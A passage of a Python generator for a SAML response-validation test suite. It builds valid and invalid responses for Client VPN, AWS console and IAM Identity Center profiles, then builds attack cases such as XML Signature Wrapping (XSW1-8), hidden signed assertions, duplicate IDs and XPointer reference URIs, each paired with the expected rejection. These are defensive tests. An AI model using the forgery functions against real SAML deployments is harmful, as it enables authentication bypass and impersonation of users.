       CV, "malformed_status", [(SUCCESS + "</samlp:Status>", SUCCESS + "</samlp:Status><samlp:Status>"
                                 + RESPONDER + "</samlp:Status>")])
policy("clientvpn-two-status-codes", "status", "two top-level StatusCodes (Success, then Responder)",
       CV, "malformed_status", [(SUCCESS, SUCCESS + RESPONDER)])

# --- Values the IdP signed that the profile still refuses ----------------------
policy("aws-console-role-third-part", "role_attribute",
       "Role 'provider ARN,role ARN,Evil': a third comma-separated part", AWSC, "invalid_role",
       [(f"{ROLE_ADMIN},{PROVIDER}", f"{PROVIDER},{ROLE_ADMIN},Evil")])
policy("aws-console-role-unknown-partition", "role_attribute",
       "Role ARNs in partition 'awsevil' (not an AWS partition)", AWSC, "invalid_role",
       [(f"{ROLE_ADMIN},{PROVIDER}",
         f"{ROLE_ADMIN.replace('arn:aws:', 'arn:awsevil:')},{PROVIDER.replace('arn:aws:', 'arn:awsevil:')}")])
policy("clientvpn-nameid-bidi-override", "nameid_characters",
       "NameID with a right-to-left override (U+202E): looks like another address", CV, "invalid_name_id",
       [(name_id(CV), name_id(CV).replace("alice@", "alice\u202e@"))])
policy("clientvpn-group-zero-width", "group_characters",
       "a memberOf value with a zero-width space (U+200B)", CV, "invalid_groups",
       [('<Attribute Name="memberOf"><AttributeValue>', '<Attribute Name="memberOf"><AttributeValue>\u200b')])

# --- Line ends ------------------------------------------------------------------
def multi_line(doc):
    """Line breaks between the Response's and the Assertion's children, and a
    multi-line comment and processing instruction inside the signed Assertion."""
    for tag in [RESP_ISSUER, "<samlp:Status>", f'<Assertion xmlns="{NS_SAML}"', "</samlp:Response>"]:
        doc = once(doc, tag, "\n  " + tag)
    return once(doc, "<Subject>", "\n    <!-- issued for the Client VPN\n         endpoint, two lines -->"
                "\n    <?audit line one\nline two?>\n    <Subject>")


def crlf(doc):
    """What a Windows tool sends: every line end CRLF, signed bytes included."""
    if "\r" in doc:
        raise SystemExit("suite: crlf: the document already has CR")
    return doc.replace("\n", "\r\n")


policy("clientvpn-crlf-line-ends", "line_ends",
       "signed with LF line ends (line breaks between elements, a multi-line comment and PI inside the "
       "Assertion), sent with CRLF everywhere: XML 1.0 normalizes line ends before anything is signed or read",
       CV, "valid", [multi_line], post=crlf)

# --- Canonicalization methods -----------------------------------------------------
INCLUSIVE_ASIG = signature([reference("#" + A, transforms=[transform(ENV), transform(C14N10)])], c14n=C14N10)
INCLUSIVE_RSIG = signature([reference("#" + R, transforms=[transform(ENV), transform(C14N10_WC)])],
                           c14n=C14N10_WC)
policy("generic-inclusive-c14n", "canonicalization",
       "both signatures inclusive C14N 1.0 (the Response's #WithComments, a comment in the Response); "
       "xml:lang and an unused xmlns:xs on the Response, which inclusive C14N carries onto the Assertion",
       GEN, "valid",
       [(f'<samlp:Response xmlns:samlp="{NS_SAMLP}"',
         f'<samlp:Response xmlns:samlp="{NS_SAMLP}" xmlns:xs="{NS_XS}" xml:lang="en"'),
        ("</samlp:Status>", "</samlp:Status><!-- not part of any digest -->")],
       asig=INCLUSIVE_ASIG, rsig=INCLUSIVE_RSIG, expect_envelope=True,
       variants=[{"profile": CV, "expect": "canonicalization_method",
                  "description": "the same under clientvpn: exclusive C14N only (Entra signs with it)"},
                 {"profile": AWSC, "expect": "canonicalization_method",
                  "description": "the same under aws-console: exclusive C14N only"}])

# --- Signed element IDs that are not NCNames -----------------------------------
policy("clientvpn-ids-start-with-digit", "signed_element_id",
       "Assertion and Response IDs that are UUIDs starting with a digit (real IdPs send them)", CV, "valid",
       [(f' ID="{A}"', ' ID="8f3e6d21-0c4b-4a97-b5e8-6d7c1f2a3b4c"'),
        (f'URI="#{A}"', 'URI="#8f3e6d21-0c4b-4a97-b5e8-6d7c1f2a3b4c"'),
        (f' ID="{R}"', ' ID="1e4c-5b2a-9d3f"'), (f'URI="#{R}"', 'URI="#1e4c-5b2a-9d3f"')])

# --- Clock and replay on existing responses (no new files) ------------------
ref("responses/clientvpn.xml", "policy", "time_window", "SubjectConfirmationData NotOnOrAfter 10:05:00Z at "
    "10:06:00Z (now - skew == NotOnOrAfter: half-open, expired)", CV, "expired", now="2026-01-15T10:06:00Z")
ref("responses/clientvpn.xml", "policy", "time_window", "one second before the half-open bound", CV, "valid",
    now="2026-01-15T10:05:59Z", expect_name_id="alice@example.com")
ref("responses/clientvpn.xml", "policy", "issue_instant", "IssueInstant 10:00:00Z at 09:58:59Z (more than "
    "the 60 s skew in the future)", CV, "issued_in_future", now="2026-01-15T09:58:59Z")
ref("responses/aws-console.xml", "policy", "freshness", "aws-console IssueInstant 10:00:00Z at 10:06:01Z "
    "(older than 5 min + 60 s skew)", AWSC, "response_too_old", now="2026-01-15T10:06:01Z")
ref("responses/aws-console.xml", "policy", "time_window", "aws-console at 10:06:00Z: not too old yet, but "
    "SubjectConfirmationData expired (half-open)", AWSC, "expired", now="2026-01-15T10:06:00Z")
ref("responses/clientvpn.xml", "policy", "replay", "the same response validated twice with one Policy: "
    "the first is valid, the second a replay", CV, "replayed_assertion", validate_twice=True)
ref("responses/aws-console.xml", "policy", "replay", "aws-console response validated twice", AWSC,
    "replayed_assertion", validate_twice=True)

# ===========================================================================
# IAM Identity Center (profile identity-center): configured from
# metadata/identity-center-sp.xml (eu-west-1); metadata/identity-center-sp-other.xml
# is another instance in us-west-2. Every rule of the profile refused with its
# kind, by one edit of a valid response.
# ===========================================================================

IC = "identity-center"
IDC_ENTITY = p(IC, "audience")
IDC_ACS = p(IC, "acs")
IDC_OTHER_REGION = "https://us-west-2.signin.aws.amazon.com/platform/saml/"
IDC_IRT = "id-3b9e2c7d5a1f4e8b9c0d1e2f3a4b5c6d"
ACCESS = AWS + "AccessControl:"
NID_IC = name_id(IC)


def region(url, to="us-west-2"):
    return url.replace("eu-west-1", to)


def idc_nameid(value, fmt=EMAIL):
    return [(NID_IC, f'<NameID Format="{fmt}">{value}</NameID>')]


def idc_tags(n):
    """n access-control attributes instead of Department and CostCenter."""
    def f(doc):
        doc = drop_attr(ACCESS + "CostCenter")(drop_attr(ACCESS + "Department")(doc))
        extra = "".join(attribute(f"{ACCESS}Tag{i:02d}", [f"value{i}"]) for i in range(n))
        return once(doc, "</AttributeStatement>", extra + "</AttributeStatement>")
    return f


SP_INITIATED = [(f'Destination="{IDC_ACS}">', f'Destination="{IDC_ACS}" InResponseTo="{IDC_IRT}">'),
                ("<SubjectConfirmationData ", f'<SubjectConfirmationData InResponseTo="{IDC_IRT}" ')]

# --- flows and signatures ------------------------------------------------------
policy("identity-center-idp-initiated", "identity_center_flow",
       "IdP-initiated (My Apps): no InResponseTo, Assertion signed, two access-control attributes", IC, "valid",
       variants=[{"request_id": IDC_IRT, "expect": "in_response_to_missing",
                  "description": "IdP-initiated, but validated expecting an SP-initiated request's ID"}])
policy("identity-center-sp-initiated", "identity_center_flow",
       "SP-initiated: Response and SubjectConfirmationData InResponseTo the request", IC, "valid", SP_INITIATED,
       request_id=IDC_IRT,
       variants=[{"request_id": "id-00000000000000000000000000000000", "expect": "in_response_to_mismatch",
                  "description": "SP-initiated, answering another request than the one expected"},
                 {"request_id": None, "description": "SP-initiated, validated without the request ID "
                  "(InResponseTo not matched, reported as skipped)"}])
policy("identity-center-both-signed", "identity_center_signatures", "Response and Assertion signed", IC,
       "valid", sigs="both", expect_envelope=True)
policy("identity-center-response-signed-only", "identity_center_signatures",
       "only the Response signed (Entra 'Sign SAML response'): the Assertion must be signed", IC,
       "assertion_not_signed", sigs="response")
policy("identity-center-unsigned", "identity_center_signatures", "no signature at all", IC,
       "assertion_not_signed", sigs="none")
policy("identity-center-response-signature-broken", "identity_center_signatures",
       "both signed; the Response SignatureValue altered: a Response signature present must verify", IC,
       "signature_invalid", sigs="both", post=lambda d: gen.edit("tamper-first-signature-value", d),
       checks=[(XP_A, "idp", "OK"), (XP_R, "idp", "FAIL")])

# --- audience, Destination, Recipient -------------------------------------------
AUD_IC = f"<Audience>{IDC_ENTITY}</Audience>"
policy("identity-center-audience-other-instance", "identity_center_audience",
       "audience of another Identity Center instance in the same Region (Entra Identifier copied from "
       "another instance)", IC, "audience_mismatch",
       [(AUD_IC, f"<Audience>{IDC_ENTITY.replace('d-93677a1b2c', 'd-9367000000')}</Audience>")])
policy("identity-center-audience-other-region", "identity_center_audience",
       "audience of the same instance ID in us-west-2", IC, "audience_mismatch",
       [(AUD_IC, f"<Audience>{region(IDC_ENTITY)}</Audience>")])
policy("identity-center-audience-is-acs", "identity_center_audience",
       "audience is the ACS URL (Entra Identifier and Reply URL swapped)", IC, "audience_mismatch",
       [(AUD_IC, f"<Audience>{IDC_ACS}</Audience>")])
policy("identity-center-audience-aws-console", "identity_center_audience",
       "audience https://signin.aws.amazon.com/saml: a response of Entra's AWS console application", IC,
       "audience_mismatch", [(AUD_IC, "<Audience>https://signin.aws.amazon.com/saml</Audience>")])
policy("identity-center-audience-clientvpn", "identity_center_audience",
       "audience urn:amazon:webservices:clientvpn: a response of Entra's Client VPN application", IC,
       "audience_mismatch", [(AUD_IC, "<Audience>urn:amazon:webservices:clientvpn</Audience>")])
policy("identity-center-destination-other-region", "identity_center_acs",
       "Destination is the ACS URL of the same instance ID in us-west-2 (Recipient correct)", IC,
       "destination_mismatch", [(f'Destination="{IDC_ACS}"', f'Destination="{region(IDC_ACS)}"')])
policy("identity-center-recipient-other-region", "identity_center_acs",
       "SubjectConfirmationData Recipient in us-west-2 (Destination correct)", IC, "recipient_mismatch",
       [(f'Recipient="{IDC_ACS}"', f'Recipient="{region(IDC_ACS)}"')])
policy("identity-center-recipient-other-instance", "identity_center_acs",
       "SubjectConfirmationData Recipient of another instance's ACS in the same Region", IC,
       "recipient_mismatch",
       [(f'Recipient="{IDC_ACS}"', f'Recipient="{IDC_ACS.replace("4c2d1e8f", "00000000")}"')])
ref("policy/identity-center-idp-initiated.xml", "policy", "identity_center_acs",
    "a valid response for eu-west-1 checked against another instance's SP metadata (us-west-2)", IC,
    "destination_mismatch", sp_metadata="metadata/identity-center-sp-other.xml")

# --- NameID ---------------------------------------------------------------------
policy("identity-center-nameid-unspecified", "identity_center_name_id",
       "NameID Format unspecified (Entra's default Unique User Identifier format)", IC, "invalid_name_id",
       idc_nameid("alice@example.com", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"))
policy("identity-center-nameid-persistent", "identity_center_name_id", "NameID Format persistent", IC,
       "invalid_name_id", idc_nameid("k3vQ9XnW2bYp7sLr1cTfHd8uJmA0eZoGiE5yR4qP6hN",
                                     "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"))
policy("identity-center-nameid-no-format", "identity_center_name_id", "NameID without a Format", IC,
       "invalid_name_id", [(NID_IC, "<NameID>alice@example.com</NameID>")])
policy("identity-center-nameid-missing", "identity_center_name_id", "a Subject without a NameID", IC,
       "invalid_name_id", [(NID_IC, "")])
for slug, value, desc in [
        ("no-at", "alice", "'alice': no @"),
        ("object-id", guid("user-alice"), "the user's object ID (source user.objectid)"),
        ("quoted", '"alice smith"@example.com', "a quoted local part"),
        ("ip-literal", "alice@[192.0.2.1]", "an IP domain literal"),
        ("non-ascii", "j\u00f6rg@example.com", "a non-ASCII local part"),
        ("idn-unicode", "alice@m\u00fcnchen.de", "an internationalized domain in Unicode (not its xn-- form)"),
        ("zero-width", "alice\u200b@example.com", "a zero-width space (U+200B)"),
        ("double-dot", "alice..smith@example.com", "two dots in a row"),
        ("trailing-dot-domain", "alice@example.com.", "a domain ending in a dot"),
        ("129", "a" * 117 + "@example.com", "129 characters (Identity Center user names are at most 128)")]:
    policy(f"identity-center-nameid-{slug}", "identity_center_name_id", f"emailAddress NameID {desc}", IC,
           "invalid_name_id", idc_nameid(value))
for slug, value, desc in [
        ("plus-dots", "alice.b+aws@example.co.uk", "with dots and a plus tag"),
        ("punycode", "alice@xn--mnchen-3ya.de", "with a domain in its xn-- form"),
        ("128", "a" * 116 + "@example.com", "of exactly 128 characters")]:
    policy(f"identity-center-nameid-{slug}", "identity_center_name_id", f"emailAddress NameID {desc}", IC,
           "valid", idc_nameid(value), expect_name_id=value)

# --- access-control attributes (session tags) -------------------------------------
DEPT = ACCESS + "Department"
for slug, edits, expect, desc in [
        ("key-128", [add_attr(ACCESS + "K" * 128, ["x"])], "valid", "a tag key of 128 characters"),
        ("key-129", [add_attr(ACCESS + "K" * 129, ["x"])], "invalid_access_control_tags",
         "a tag key of 129 characters"),
        ("value-256", [set_attr(DEPT, ["v" * 256])], "valid", "a tag value of 256 characters"),
        ("value-257", [set_attr(DEPT, ["v" * 257])], "invalid_access_control_tags",
         "a tag value of 257 characters"),
        ("value-empty", [set_attr(DEPT, [""])], "valid", "an empty tag value"),
        ("unicode", [add_attr(ACCESS + "Abteilung", ["Forschung und Entwicklung: Gr\u00f6\u00dfe=1/2 @M\u00fcnchen"])],
         "valid", "letters outside ASCII, spaces and : / = @ in a value"),
        ("value-hash", [set_attr(DEPT, ["Engineering#1"])], "invalid_access_control_tags",
         "a '#' in a tag value"),
        ("value-comma", [set_attr(DEPT, ["Engineering,Sales"])], "invalid_access_control_tags",
         "a ',' in a tag value (one tag, one value)"),
        ("value-nbsp", [set_attr(DEPT, ["Engi\u00a0neering"])], "invalid_access_control_tags",
         "a no-break space (U+00A0) in a tag value"),
        ("value-filler", [set_attr(DEPT, ["Engi\u3164neering"])], "invalid_access_control_tags",
         "a Hangul filler (U+3164, a letter that renders as nothing) in a tag value"),
        ("key-filler", [add_attr(ACCESS + "Depart\u3164ment", ["x"])], "invalid_access_control_tags",
         "a Hangul filler (U+3164) in a tag key"),
        ("key-aws-prefix", [add_attr(ACCESS + "aws:Department", ["x"])], "invalid_access_control_tags",
         "a tag key starting with aws:"),
        ("key-empty", [add_attr(ACCESS, ["x"])], "invalid_access_control_tags", "an empty tag key"),
        ("key-slash-space", [add_attr(ACCESS + "cost center/team", ["x"])], "valid",
         "a tag key with a space and a slash"),
        ("duplicate-case", [add_attr(ACCESS + "department", ["Sales"])], "invalid_access_control_tags",
         "Department and department (tag keys are case-insensitive)"),
        ("two-values", [set_attr(DEPT, ["Engineering", "Sales"])], "invalid_access_control_tags",
         "a tag attribute with two values"),
        ("50", [idc_tags(50)], "valid", "50 access-control attributes"),
        ("51", [idc_tags(51)], "invalid_access_control_tags", "51 access-control attributes (AWS passes at "
         "most 50 session tags)")]:
    policy(f"identity-center-tags-{slug}", "identity_center_tags", desc, IC, expect, edits)

# --- encryption -------------------------------------------------------------------
policy("identity-center-encrypted-assertion", "identity_center_encryption",
       "Entra token encryption on: a signed Response holding an EncryptedAssertion", IC,
       "encrypted_assertion", sigs="response",
       edits=[lambda d: d[:assertion_span(d)[0]] + ENC + d[assertion_span(d)[1]:]])

# --- configuration ------------------------------------------------------------------
IDC_VALID = "policy/identity-center-idp-initiated.xml"
ref(IDC_VALID, "policy", "identity_center_config", "the IdP's metadata (metadata/entra.xml) given as the SP "
    "metadata", IC, "no_sp_descriptor", sp_metadata=TRUST, stage="config")
ref(IDC_VALID, "policy", "identity_center_config", "SP metadata with two SPSSODescriptors", IC,
    "several_sp_descriptors", sp_metadata="metadata/sp-two-descriptors.xml", stage="config")
ref(IDC_VALID, "policy", "identity_center_config", "SP metadata whose only ACS is HTTP-Redirect", IC,
    "no_post_acs", sp_metadata="metadata/sp-no-post-acs.xml", stage="config")
ref(IDC_VALID, "policy", "identity_center_config", "IdP metadata of 76,645 characters (Identity Center "
    "imports at most 75,000)", IC, "idp_metadata_too_large", trust="metadata/entra-large.xml", stage="config")
ref(IDC_VALID, "policy", "identity_center_config", "the same large IdP metadata under the generic profile "
    "configured from Identity Center's SP metadata: the limit is Identity Center's", GEN, "valid",
    trust="metadata/entra-large.xml", sp_metadata=IDC_SP_METADATA, request_id=None,
    expect_name_id="alice@example.com")
ref("policy/identity-center-sp-initiated.xml", "policy", "identity_center_config",
    "the generic profile configured from Identity Center's SP metadata, SP-initiated", GEN, "valid",
    sp_metadata=IDC_SP_METADATA, request_id=IDC_IRT, expect_name_id="alice@example.com")
ref("policy/identity-center-destination-other-region.xml", "policy", "identity_center_config",
    "the generic profile configured from Identity Center's SP metadata refuses another Region's Destination",
    GEN, "destination_mismatch", sp_metadata=IDC_SP_METADATA, request_id=None)

# ===========================================================================
# attacks/: the attack classes 1-37 of the manual's attacks chapter
# ===========================================================================

XSW_FORBIDDEN = {"forbidden_values": FORBIDDEN_FORGED}


def xsw_outer(doc):
    """(outer Response text with @@SIG@@ for its Signature, the Signature, the
    clean clone of the signed Response)."""
    rs = response_sig_span(doc)
    sig = text_of(doc, rs)
    clone = cut(doc, rs).rstrip("\n")
    outer = doc[:rs[0]] + "@@SIG@@" + doc[rs[1]:]
    outer = forge(set_ids(outer, EVIL_R, EVIL_A))
    return outer, sig, clone


def xsw1(doc):
    outer, sig, clone = xsw_outer(doc)
    return outer.replace("@@SIG@@", sig[:-len(SIG_CLOSE)] + clone + SIG_CLOSE)


def xsw2(doc):
    outer, sig, clone = xsw_outer(doc)
    return outer.replace("@@SIG@@", clone + sig)


attack("xsw1-generic", 1, "XSW1: clone of the signed Response (Response-only signature) appended inside "
       "Response/ds:Signature; outer Response/Assertion get new IDs and forged NameID", GEN, "assertion_count",
       sigs="response", post=xsw1, checks=[(XP_R, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("xsw1-clientvpn", 1, "XSW1 on a doubly signed Client VPN response (the clone keeps the Assertion "
       "signature)", CV, "assertion_count", post=xsw1, checks=[(XP_R, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("xsw2-generic", 2, "XSW2: clone of the signed Response inserted before Response/ds:Signature; outer "
       "forged", GEN, "assertion_count", sigs="response", post=xsw2, **XSW_FORBIDDEN)


def forged_assertion(doc, new_id=EVIL_A, keep_sig=False):
    a = text_of(doc, assertion_span(doc))
    if not keep_sig:
        a = strip_sig(a)
    return forge(set_ids(a, assertion_id=new_id) if new_id else a)


def xsw3(doc):
    s = assertion_span(doc)
    return doc[:s[0]] + forged_assertion(doc) + doc[s[0]:]


def xsw4(doc):
    s = assertion_span(doc)
    f = forged_assertion(doc)
    return doc[:s[0]] + f[:-len("</Assertion>")] + text_of(doc, s) + "</Assertion>" + doc[s[1]:]


def xsw5(doc):
    s = assertion_span(doc)
    original = text_of(doc, s)
    return doc[:s[0]] + forged_assertion(doc, keep_sig=True) + strip_sig(original) + doc[s[1]:]


def xsw6(doc):
    s = assertion_span(doc)
    original = text_of(doc, s)
    f = forged_assertion(doc, keep_sig=True)
    f = once(f, SIG_CLOSE, strip_sig(original) + SIG_CLOSE)
    return doc[:s[0]] + f + doc[s[1]:]


def xsw7(doc):
    return insert_before_status(doc, "<samlp:Extensions>" + forged_assertion(doc, new_id=None)
                                + "</samlp:Extensions>")


def xsw8(doc):
    s = assertion_span(doc)
    original = text_of(doc, s)
    f = forged_assertion(doc, new_id=None, keep_sig=True)
    f = once(f, SIG_CLOSE, "<Object>" + strip_sig(original) + "</Object>" + SIG_CLOSE)
    return doc[:s[0]] + f + doc[s[1]:]


attack("xsw3", 3, "XSW3: unsigned forged Assertion (new ID) inserted before the signed one", AWSC,
       "assertion_count", post=xsw3, **XSW_FORBIDDEN)
attack("xsw4", 4, "XSW4: forged Assertion (new ID, unsigned) wraps the original signed Assertion", AWSC,
       "assertion_count", post=xsw4, checks=[(xp_sig_of(A), "idp", "OK")], **XSW_FORBIDDEN)
attack("xsw5", 5, "XSW5: first Assertion forged with ID changed and the original Signature kept; unsigned "
       "verbatim copy with the original ID appended", AWSC, "assertion_count", post=xsw5,
       checks=[(xp_sig_of(EVIL_A), "idp", "OK")], **XSW_FORBIDDEN)
attack("xsw6", 6, "XSW6: as XSW5, the unsigned copy (original ID) inside the forged Assertion's "
       "ds:Signature", AWSC, "assertion_count", post=xsw6, checks=[(xp_sig_of(EVIL_A), "idp", "FAIL")],
       **XSW_FORBIDDEN)
attack("xsw7", 7, "XSW7: samlp:Extensions before the Assertion holds a forged copy with the same ID",
       AWSC, "duplicate_id", post=xsw7, checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("xsw8", 8, "XSW8: forged Assertion keeps the ID and Signature; the unsigned original sits in "
       "ds:Signature/ds:Object (duplicate ID)", AWSC, "duplicate_id", post=xsw8,
       checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)

# --- 9: multiple assertions -------------------------------------------------
attack("multi-assertion-forged-after", 9, "signed Assertion followed by a forged unsigned Assertion "
       "(ID _evil_assertion_ID)", CV, "assertion_count",
       post=lambda d: once(d, "</Assertion>", "</Assertion>" + forged_assertion(d)),
       checks=[(XP_A, "idp", "OK"), (XP_R, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("multi-assertion-forged-before", 9, "forged unsigned Assertion before the signed Assertion "
       "(doubly signed Client VPN response; the Response signature breaks)", CV, "assertion_count",
       post=xsw3, checks=[(XP_A, "idp", "OK"), (XP_R, "idp", "FAIL")], **XSW_FORBIDDEN)
A2 = "_a2b7e5c4d-3f1a-4e6b-9c8d-7e6f5a4b3c2d"


def two_signed_assertions():
    d = base_template(AWSC, "assertion")
    s = assertion_span(d)
    second = text_of(d, s).replace(f' ID="{A}"', f' ID="{A2}"').replace(f'URI="#{A}"', f'URI="#{A2}"')
    second = forge(second.replace(ASSN_ISSUER, f"<Issuer>{OTHER_ISSUER}</Issuer>"))
    return d[:s[1]] + second + d[s[1]:]


XP_A1 = f"/*[local-name()='Response']/*[local-name()='Assertion'][1]/*[local-name()='Signature' and {DSC}]"
XP_A2 = f"/*[local-name()='Response']/*[local-name()='Assertion'][2]/*[local-name()='Signature' and {DSC}]"
attack("multi-assertion-two-signed", 9, "unsigned Response with two individually signed Assertions: ours "
       "(idp.key) and one from another tenant issuer (idp-next.key)", AWSC, "assertion_count",
       template=two_signed_assertions, sign=[(XP_A1, "idp"), (XP_A2, "idp-next")],
       checks=[(XP_A1, "idp", "OK"), (XP_A2, "idp-next", "OK")], **XSW_FORBIDDEN)


# --- 10: hidden signed assertion --------------------------------------------
def hide_in(where, same_id):
    def f(doc):
        s = assertion_span(doc)
        genuine = text_of(doc, s)
        forged = forged_assertion(doc, new_id=None if same_id else EVIL_A, keep_sig=True)
        if where == "Extensions":
            doc = doc[:s[0]] + forged + doc[s[1]:]
            return insert_before_status(doc, "<samlp:Extensions>" + genuine + "</samlp:Extensions>")
        if where == "StatusDetail":
            doc = doc[:s[0]] + forged + doc[s[1]:]
            return once(doc, "</samlp:Status>", "<samlp:StatusDetail>" + genuine + "</samlp:StatusDetail></samlp:Status>")
        if where == "Advice":
            forged = once(forged, "<AttributeStatement>", "<Advice>" + genuine + "</Advice><AttributeStatement>")
            return doc[:s[0]] + forged + doc[s[1]:]
        if where == "SubjectConfirmationData":
            old = scd(AWSC)
            forged = once(forged, old, old[:-2] + ">" + genuine + "</SubjectConfirmationData>")
            return doc[:s[0]] + forged + doc[s[1]:]
        raise SystemExit(where)
    return f


for where, same, expect in [("Extensions", True, "duplicate_id"), ("StatusDetail", False, "assertion_count"),
                            ("Advice", False, "assertion_count"),
                            ("SubjectConfirmationData", False, "assertion_count")]:
    attack(f"hidden-assertion-{where.lower()}", 10,
           f"genuine signed Assertion hidden in {where}; a forged Assertion "
           f"({'same ID' if same else 'ID _evil_assertion_ID'}) with a byte-copied Signature is the direct "
           "child", AWSC, expect, post=hide_in(where, same),
           checks=[(xp_sig_under(where), "idp", "FAIL" if same else "OK")], **XSW_FORBIDDEN)


# --- 11: signed error response ----------------------------------------------
def error_response():
    d = base_template(CV, "response")
    return cut(once(d, SUCCESS, RESPONDER), assertion_span(d.replace(SUCCESS, RESPONDER)))


def error_response_with_object(doc):
    rs = response_sig_span(doc)
    sig = text_of(doc, rs)
    signed_info = text_of(sig, span(sig, "<SignedInfo>", "</SignedInfo>"))
    sigval = text_of(sig, span(sig, "<SignatureValue>", "</SignatureValue>"))
    unsigned = base_template(CV, "none")
    forged = forge(text_of(unsigned, assertion_span(unsigned)))
    second = SIG_OPEN + signed_info + sigval + "<Object>" + forged + "</Object>" + SIG_CLOSE
    return doc[:rs[1]] + second + doc[rs[1]:]


attack("signed-error-response", 11, "genuinely signed Response with Status Responder and no Assertion",
       CV, "assertion_count", template=error_response, sign=[(XP_R, "idp")])
attack("signed-error-response-object-assertion", 11, "signed error response plus a second ds:Signature "
       "(same SignatureValue) whose ds:Object holds a forged Assertion", CV, "assertion_position",
       template=error_response, sign=[(XP_R, "idp")], post=error_response_with_object,
       checks=[(XP_R + "[1]", "idp", "FAIL")], **XSW_FORBIDDEN)

# --- 12: multiple roots / trailing content ----------------------------------
attack("multiple-roots", 12, "signed Response followed by a forged second root Response", CV,
       "multiple_root_elements", post=lambda d: d + forge(set_ids(d, EVIL_R, EVIL_A)),
       checks=[(XP_A + "[1]", "idp", "FAIL")], **XSW_FORBIDDEN)
attack("trailing-text", 12, "text after the root element", CV, "text_outside_root",
       post=lambda d: d + "mallory@example.com\n", checks=[(XP_A, "idp", "FAIL")])
attack("trailing-pi", 12, "processing instruction after the root (allowed by XML; the signed content is "
       "intact)", CV, "valid", post=lambda d: d + '<?forged name="mallory@example.com"?>\n')
attack("surrounding-comments", 12, "comments before and after the root (allowed; signed content intact)",
       CV, "valid", post=lambda d: "<!-- mallory@example.com -->\n" + d + "<!-- forged -->\n")

# --- 13: duplicate IDs ------------------------------------------------------
attack("duplicate-id-extensions", 13, "samlp:Extensions/x with ID equal to the Assertion ID", AWSC,
       "duplicate_id", post=lambda d: insert_before_status(
           d, f'<samlp:Extensions><x xmlns="urn:example:x" ID="{A}"/></samlp:Extensions>'))
attack("duplicate-id-foreign-namespace", 13, "attribute ex:ID (foreign namespace) with the Assertion ID", AWSC,
       "duplicate_id", post=lambda d: insert_before_status(
           d, f'<samlp:Extensions><ex:x xmlns:ex="urn:example:x" ex:ID="{A}"/></samlp:Extensions>'))
attack("duplicate-id-response", 13, "an element in samlp:Extensions carrying the Response ID", AWSC,
       "duplicate_id",
       post=lambda d: insert_before_status(
           d, f'<samlp:Extensions><x xmlns="urn:example:x" ID="{R}"/></samlp:Extensions>'))


# --- 14: XPointer / odd URIs -------------------------------------------------
def uri_template(uri, assertion_id=None):
    def t():
        d = base_template(AWSC, "none", asig=signature([reference(uri)]))
        if assertion_id:
            d = once(d, f' ID="{A}"', f' ID="{assertion_id}"')
        return d
    return t


attack("uri-element-scheme", 14, "Reference URI=\"#element(/1/3)\" and the Assertion ID=\"element(/1/3)\" "
       "(samael xpointer attack shape)", AWSC, "reference_uri",
       template=uri_template("#element(/1/3)", "element(/1/3)"), sign=[(XP_A, "idp")])
attack("uri-xpointer-id", 14, "Reference URI=\"#xpointer(id('A'))\"", AWSC, "reference_uri",
       template=uri_template(f"#xpointer(id('{A}'))"), sign=[(XP_A, "idp")])
attack("uri-xpointer-root", 14, "Reference URI=\"#xpointer(/)\" (whole document)", AWSC, "reference_uri",
       template=uri_template("#xpointer(/)"), sign=[(XP_A, "idp")])
for slug, uri in [("hash-only", "#"), ("external", "http://idp.example.com/assertion.xml"),
                  ("query", f"#{A}?x=1")]:
    attack(f"uri-{slug}", 14, f"Reference URI={uri!r} (edited after signing)", AWSC, "reference_uri",
           post=lambda d, uri=uri: once(d, f'URI="#{A}"', f'URI="{uri}"'), checks=[(XP_A, "idp", "FAIL")])

# --- 15: non-enveloping reference -------------------------------------------
attack("signature-in-assertion-refs-response", 15, "Signature inside the Assertion references the Response "
       "(#R, an ancestor)", AWSC, "reference_uri", asig=std_sig(R))
attack("response-signature-refs-assertion", 15, "Signature is a child of the Response but references the "
       "Assertion (#A); the Assertion has none", AWSC, "assertion_not_signed", sigs="none",
       rsig=std_sig(A), sign=[(XP_R, "idp")],
       variants=[{"profile": GEN, "expect": "reference_uri",
                  "description": "same file, generic profile (either signature may cover the Assertion)"}])

# --- 16: two references / Type ----------------------------------------------
attack("two-references", 16, "one SignedInfo with References #A and #R", AWSC, "reference_count",
       asig=signature([reference("#" + A), reference("#" + R)]))
attack("reference-type-object", 16, "Response signature Reference with Type=...#Object", CV,
       "forbidden_element", rsig=signature([reference("#" + R, type_attr="http://www.w3.org/2000/09/xmldsig#Object")]))


# --- 17: duplicated / wrapped Signature children -----------------------------
def sig_edit(fn):
    def f(doc):
        s = assertion_sig_span(doc)
        return doc[:s[0]] + fn(doc, text_of(doc, s)) + doc[s[1]:]
    return f


def evil_signed_info(doc, sig):
    """Genuine SignedInfo with DigestValue = digest(forged Assertion)."""
    si = text_of(sig, span(sig, "<SignedInfo>", "</SignedInfo>"))
    forged = forge(strip_sig(text_of(doc, assertion_span(doc))))
    return si.replace(digest_value(si), exc_c14n_digest(forged))


def forge_after(fn):
    def f(doc):
        checked_digest_of_assertion(doc)
        doc = sig_edit(fn)(doc)
        s = assertion_span(doc)
        return doc[:s[0]] + forge(text_of(doc, s)) + doc[s[1]:]
    return f


def dup(tag):
    def fn(doc, sig):
        part = text_of(sig, span(sig, f"<{tag}", f"</{tag}>" if f"</{tag}>" in sig else "/>"))
        return once(sig, part, part + part)
    return fn


attack("wrapped-signedinfo", 17, "evil SignedInfo (digest of the forged Assertion) in a foreign wrapper "
       "element before the genuine SignedInfo; Assertion forged", AWSC, "malformed_signature",
       post=forge_after(lambda d, sig: once(sig, "<SignedInfo>", '<Wrapper xmlns="urn:example:wrapper">'
                                            + evil_signed_info(d, sig).replace("<SignedInfo>", f'<SignedInfo xmlns="{NS_DS}">', 1)
                                            + "</Wrapper><SignedInfo>")),
       checks=[(XP_A, "idp", "FAIL")], **XSW_FORBIDDEN)
attack("two-signedinfo-evil-first", 17, "two sibling SignedInfo, the evil one (digest of the forged "
       "Assertion) first; Assertion forged", AWSC, "malformed_signature",
